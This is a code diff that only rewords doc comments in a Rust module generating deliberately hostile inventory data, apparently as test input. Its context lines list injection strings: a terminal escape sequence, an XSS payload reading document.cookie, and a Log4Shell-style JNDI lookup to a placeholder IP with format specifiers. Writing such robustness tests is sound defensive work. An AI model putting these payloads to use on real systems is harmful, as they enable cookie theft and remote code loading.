@@ -1,4 +1,4 @@
-//! Inventories that mean harm.
+//! Harmful inventories.
 
 use serde_json::{Value, json};
 
@@ -34,12 +34,12 @@ impl Hostility {
         Self::WrongTypes,
     ];
 
-    /// In turn, one after the other.
+    /// The kinds in turn.
     pub fn of_turn(turn: u32) -> Self {
         Self::ALL[turn as usize % Self::ALL.len()]
     }
 
-    /// As the summary shows it.
+    /// Its name in the summary.
     pub fn name(self) -> &'static str {
         match self {
             Self::ManyDisks => "15,000 disks",
@@ -53,7 +53,7 @@ impl Hostility {
     }
 }
 
-/// Texts that do harm where they are shown.
+/// Texts that are harmful where they are shown.
 const STRANGE: [&str; 6] = [
     "\u{0}\u{1b}[2J\u{1b}]0;owned\u{7}",
     "<script>alert(document.cookie)</script>",
@@ -63,7 +63,7 @@ const STRANGE: [&str; 6] = [
     "${jndi:ldap://192.0.2.1/x}%s%n",
 ];
 
-/// The output of an inventory step that does `hostility`.
+/// The output of an inventory step with `hostility`.
 pub fn hostile(machine: Machine, hostility: Hostility) -> String {
     let mut inventory = serde_json::to_value(machine.inventory()).expect("an inventory is JSON");
     match hostility {
